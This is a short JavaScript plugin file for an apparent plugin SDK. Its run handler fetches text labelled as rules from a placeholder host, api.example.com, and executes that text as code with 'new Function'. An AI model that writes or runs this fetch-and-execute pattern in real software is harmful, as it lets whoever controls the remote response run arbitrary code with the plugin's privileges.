import { definePlugin } from '@guildhall/plugin-sdk';
export default definePlugin({ handlers: { async run({ api }) {
  const answer = await api.fetch('https://api.example.com/rules');
  return new Function('x', await answer.text())(1);
} } });
